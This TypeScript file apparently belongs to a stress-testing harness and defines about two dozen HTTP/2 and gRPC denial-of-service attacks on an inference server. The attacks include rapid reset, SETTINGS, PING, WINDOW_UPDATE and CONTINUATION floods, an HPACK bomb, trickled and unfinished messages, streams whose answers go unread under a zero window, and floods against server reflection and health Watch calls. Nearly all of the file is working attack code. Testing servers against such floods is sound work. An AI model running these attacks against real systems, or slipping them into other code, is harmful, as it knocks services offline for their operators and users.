/** Attacks with HTTP/2 and gRPC on raw connections: endless streams, floods of frames, and unread answers. */
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  grpcHeaders,
  grpcMessage,
  literal,
  setting,
} from '../../../support/http2-frames';
import { again, largest, Tally, type Attack, type Target } from '../attack';
import { filled, gzip } from '../wire/bytes';
import { callOn, INFER, open, REFLECTION, SERVICE, startCall } from '../wire/grpc';
import { RawHttp2 } from '../wire/http2';
import { field, inferRequest } from '../wire/protobuf';
import { until } from '../wire/http1';

const NAME = 'inference.GRPCInferenceService';
const WATCH = '/grpc.health.v1.Health/Watch';

/** Opens a number of connections, runs an action on each of them, and holds them until the time is up. */
async function flood(
  target: Target,
  connections: number,
  act: (connection: RawHttp2, isOver: () => boolean) => Promise<void>,
  window?: number,
): Promise<Tally> {
  const tally = new Tally();
  const end = performance.now() + target.seconds * 1000;
  const one = async () => {
    const connection = await RawHttp2.open(target, window);
    await connection.wait(200);
    await act(connection, () => connection.closed || performance.now() > end);
    if (!connection.closed) await Promise.race([until(end), closing(connection, end)]);
    tally.add(connection.status, connection.sent);
    connection.close();
  };
  await Promise.all(Array.from({ length: connections }, one));
  return tally;
}

async function closing(connection: RawHttp2, end: number): Promise<void> {
  while (!connection.closed && performance.now() < end) await connection.wait(100);
}

/** Attack that sends the same frames repeatedly. */
function frames(name: string, what: string, bytes: Buffer, more: Partial<Attack> = {}): Attack {
  const chunk = filled(64 * 1024, bytes);
  return {
    name,
    what,
    ...more,
    run: (target) =>
      flood(target, 4, async (connection, isOver) => {
        while (!isOver()) await connection.send(chunk);
      }),
  };
}

/** Attack that keeps starting calls on two connections and does not read the answers. */
function unread(
  name: string,
  what: string,
  path: string,
  body: (target: Target) => Buffer,
  more: Partial<Attack> = {},
): Attack {
  return {
    name,
    what,
    ...more,
    run: (target) =>
      flood(
        target,
        2,
        async (connection, isOver) => {
          const bytes = body(target);
          for (let stream = 1; !isOver() && stream < 80_000; stream += 2) {
            await connection.startCall(stream, path, bytes);
            if (stream % 200 === 1) await connection.wait(1);
          }
        },
        0,
      ),
  };
}

export const grpcStreams: readonly Attack[] = [
  {
    name: 'h2-unfinished-messages',
    what: 'ten incomplete gRPC messages of the largest size on one connection',
    short: true,
    run: (target) =>
      flood(target, 4, async (connection, isOver) => {
        const size = largest(target);
        const prefix = grpcMessage(Buffer.alloc(0));
        prefix.writeUInt32BE(size, 1);
        const left = new Map<number, number>();
        for (let stream = 1; stream < 20; stream += 2) {
          await connection.startCall(stream, INFER);
          await connection.sendData(stream, prefix);
          left.set(stream, size - 1);
        }
        while (!isOver()) {
          let moved = 0;
          for (const [stream, missing] of left) {
            if (!connection.windows.has(stream)) {
              left.delete(stream);
              continue;
            }
            const sent = await connection.sendData(stream, Buffer.alloc(Math.min(64 * 1024, missing), 1));
            left.set(stream, missing - sent);
            moved += sent;
          }
          if (moved === 0) await connection.wait(200);
        }
      }),
  },
  {
    name: 'h2-trickled-messages',
    what: 'many streams whose messages arrive one byte at a time',
    run: (target) =>
      flood(target, 8, async (connection, isOver) => {
        const prefix = grpcMessage(Buffer.alloc(0));
        prefix.writeUInt32BE(largest(target), 1);
        for (let stream = 1; stream < 400 && !isOver(); stream += 2) {
          await connection.startCall(stream, INFER);
          await connection.sendData(stream, prefix);
        }
        while (!isOver()) {
          for (const stream of connection.windows.keys()) await connection.sendData(stream, Buffer.of(1));
          await connection.wait(100);
        }
      }),
  },
  unread(
    'h2-unread-answers',
    'calls of ModelConfig whose answers are not read because the window is 0',
    `${SERVICE}/ModelConfig`,
    ({ model }) => grpcMessage(field(1, model)),
    { short: true },
  ),
  unread('h2-unread-inference', 'inference calls whose answers, which are errors, are not read', INFER, (target) =>
    grpcMessage(inferRequest(target, field(3, 'i'.repeat(2000)))),
  ),
  {
    name: 'h2-unread-stream',
    what: 'a ModelStreamInfer call with endless messages, whose answers are not read',
    short: true,
    run: (target) =>
      flood(
        target,
        4,
        async (connection, isOver) => {
          const bytes = filled(64 * 1024, grpcMessage(inferRequest(target)));
          for (let stream = 1; stream < 20; stream += 2)
            await connection.startCall(stream, `${SERVICE}/ModelStreamInfer`);
          while (!isOver()) {
            let moved = 0;
            for (const stream of connection.windows.keys()) moved += await connection.sendData(stream, bytes);
            if (moved === 0) await connection.wait(200);
          }
        },
        0,
      ),
  },
  {
    name: 'h2-stream-of-messages',
    what: 'a ModelStreamInfer call with endless small messages, whose answers are read',
    run: (target) =>
      flood(target, 4, async (connection, isOver) => {
        const bytes = filled(64 * 1024, grpcMessage(inferRequest(target)));
        await connection.startCall(1, `${SERVICE}/ModelStreamInfer`);
        while (!isOver()) if ((await connection.sendData(1, bytes)) === 0) await connection.wait(50);
      }),
  },
  {
    name: 'h2-many-messages-in-a-call',
    what: 'a unary call with endless messages',
    run: (target) =>
      flood(target, 4, async (connection, isOver) => {
        const bytes = filled(64 * 1024, grpcMessage(Buffer.alloc(0)));
        await connection.startCall(1, INFER);
        while (!isOver()) if ((await connection.sendData(1, bytes)) === 0) await connection.wait(50);
      }),
  },
  {
    name: 'h2-thousands-of-streams',
    what: 'an endless number of streams that are opened but send no message, over 16 connections',
    short: true,
    run: (target) =>
      flood(target, 16, async (connection, isOver) => {
        for (let stream = 1; stream < 20_000 && !isOver(); stream += 2) await connection.startCall(stream, INFER);
      }),
  },
  {
    name: 'h2-rapid-reset',
    what: 'calls that are reset at once',
    short: true,
    run: (target) =>
      flood(target, 4, async (connection, isOver) => {
        const cancel = Buffer.from([0, 0, 0, 8]);
        const body = grpcMessage(inferRequest(target));
        const headers = grpcHeaders(INFER);
        for (let stream = 1; !isOver() && stream < 2 ** 30;) {
          const parts: Buffer[] = [];
          for (let i = 0; i < 100; i++, stream += 2) {
            parts.push(frame(FRAME.headers, END_HEADERS, stream, headers));
            parts.push(frame(FRAME.data, END_STREAM, stream, body), frame(FRAME.resetStream, 0, stream, cancel));
          }
          await connection.send(Buffer.concat(parts));
        }
      }),
  },
  frames(
    'h2-settings-flood',
    'endless SETTINGS, each to be acknowledged',
    frame(FRAME.settings, 0, 0, setting(4, 65535)),
    { short: true },
  ),
  frames('h2-ping-flood', 'endless PING, each to be answered', frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  frames(
    'h2-priority-flood',
    'PRIORITY of streams that do not exist',
    frame(FRAME.priority, 0, 3, Buffer.from([0, 0, 0, 1, 16])),
  ),
  frames(
    'h2-window-flood',
    'endless WINDOW_UPDATE of the connection',
    frame(FRAME.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])),
  ),
  {
    name: 'h2-window-flood-of-many',
    what: 'a few WINDOW_UPDATE frames at a time from each of 300 connections',
    short: true,
    run: (target) =>
      flood(target, 300, async (connection, isOver) => {
        const chunk = filled(250 * 1024, frame(FRAME.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])));
        while (!isOver()) await Promise.all([connection.send(chunk), until(performance.now() + 260)]);
      }),
  },
  frames('h2-unknown-frames', 'frames of a type that does not exist', frame(0xbe, 0, 0, Buffer.alloc(1000))),
  {
    name: 'h2-empty-data-flood',
    what: 'endless empty DATA frames on open streams',
    run: (target) =>
      flood(target, 4, async (connection, isOver) => {
        await connection.startCall(1, INFER);
        const chunk = filled(64 * 1024, frame(FRAME.data, 0, 1));
        while (!isOver()) await connection.send(chunk);
      }),
  },
  {
    name: 'h2-continuation-flood',
    what: 'endless headers in CONTINUATION frames',
    short: true,
    run: (target) =>
      flood(target, 8, async (connection, isOver) => {
        await connection.send(frame(FRAME.headers, 0, 1, grpcHeaders(INFER)));
        const more = Buffer.concat(Array.from({ length: 200 }, (_, i) => literal(0, `x-${i}`, 'v'.repeat(50))));
        const chunk = filled(128 * 1024, frame(FRAME.continuation, 0, 1, more));
        while (!isOver()) await connection.send(chunk);
      }),
  },
  {
    name: 'h2-unfinished-headers',
    what: 'incomplete headers, over 500 connections',
    run: (target) =>
      flood(target, 500, async (connection) => {
        await connection.send(frame(FRAME.headers, 0, 1, grpcHeaders(INFER, { x: 'v'.repeat(12_000) })));
      }),
  },
  {
    name: 'h2-hpack-bomb',
    what: 'a header of 4,000 bytes that is added to the table once and then repeated, one byte each time',
    short: true,
    run: (target) =>
      flood(target, 8, async (connection, isOver) => {
        const first = Buffer.concat([grpcHeaders(INFER), literal(0x40, 'x-bomb', 'v'.repeat(3900))]);
        await connection.send(frame(FRAME.headers, END_HEADERS, 1, first));
        // The first entry of the dynamic table has index 62.
        const again = Buffer.concat([grpcHeaders(INFER), Buffer.alloc(15_000, 0x80 | 62)]);
        for (let stream = 3; !isOver() && stream < 1000; stream += 2) {
          await connection.send(frame(FRAME.headers, END_HEADERS, stream, again));
          await connection.wait(1);
        }
      }),
  },
  {
    name: 'h2-reflection-names',
    what: 'streams that ask server reflection for long names that do not exist, each time a different one',
    short: true,
    async run(target) {
      const tally = new Tally();
      const end = performance.now() + target.seconds * 1000;
      const session = open(target);
      const stream = startCall(session, REFLECTION);
      let status = 'held';
      stream
        .on('error', () => (status = 'closed'))
        .on('close', () => (status = 'closed'))
        .resume();
      for (let i = 0; performance.now() < end && status === 'held'; i++) {
        const name = `n${i}${'x'.repeat(200_000)}`;
        const body = grpcMessage(gzip(field(4, name)), { flag: 1 });
        tally.bytes += body.length;
        if (!stream.write(body)) await Promise.race([new Promise((done) => stream.once('drain', done)), until(end)]);
        await until(performance.now());
      }
      tally.add(status);
      session.destroy();
      return tally;
    },
  },
  {
    name: 'h2-reflection-calls',
    what: 'calls that each ask server reflection for a different name',
    async run(target) {
      const tally = new Tally();
      const session = open(target);
      await again(16, target.seconds, async (turn) => {
        const body = grpcMessage(field(4, `m${turn}${'y'.repeat(30_000)}`));
        tally.add(await callOn(session, REFLECTION, body), body.length);
      });
      session.destroy();
      return tally;
    },
  },
  {
    name: 'h2-reflection-unread',
    what: 'repeated requests to server reflection for its largest file, whose answers are not read',
    run: (target) =>
      flood(
        target,
        4,
        async (connection, isOver) => {
          const bytes = filled(60 * 1024, grpcMessage(field(4, NAME)));
          await connection.startCall(1, REFLECTION);
          while (!isOver()) if ((await connection.sendData(1, bytes)) === 0) await connection.wait(100);
        },
        0,
      ),
  },
  {
    name: 'h2-watch-flood',
    what: 'as many endless Watch calls for services with long names as the server allows',
    short: true,
    run: (target) =>
      flood(target, 16, async (connection, isOver) => {
        for (let stream = 1; stream < 2000 && !isOver(); stream += 2) {
          await connection.startCall(stream, WATCH, grpcMessage(field(1, `${stream}${'s'.repeat(10_000)}`)));
          if (stream % 20 === 1) await connection.wait(1);
        }
      }),
  },
  {
    name: 'h2-watch-again',
    what: 'Watch repeatedly started and cancelled',
    run: (target) =>
      flood(target, 4, async (connection, isOver) => {
        const body = grpcMessage(field(1, ''));
        const cancel = Buffer.from([0, 0, 0, 8]);
        for (let stream = 1; !isOver(); stream += 2) {
          await connection.startCall(stream, WATCH, body);
          if (stream > 100) await connection.send(frame(FRAME.resetStream, 0, stream - 100, cancel));
        }
      }),
  },
  {
    name: 'h2-new-connections',
    what: 'connections that make a call and disconnect before they are answered',
    async run(target) {
      const tally = new Tally();
      const body = grpcMessage(inferRequest(target));
      await again(16, target.seconds, async () => {
        const connection = await RawHttp2.open(target);
        await connection.startCall(1, INFER, body);
        tally.add(connection.status, connection.sent);
        connection.close();
      });
      return tally;
    },
  },
];
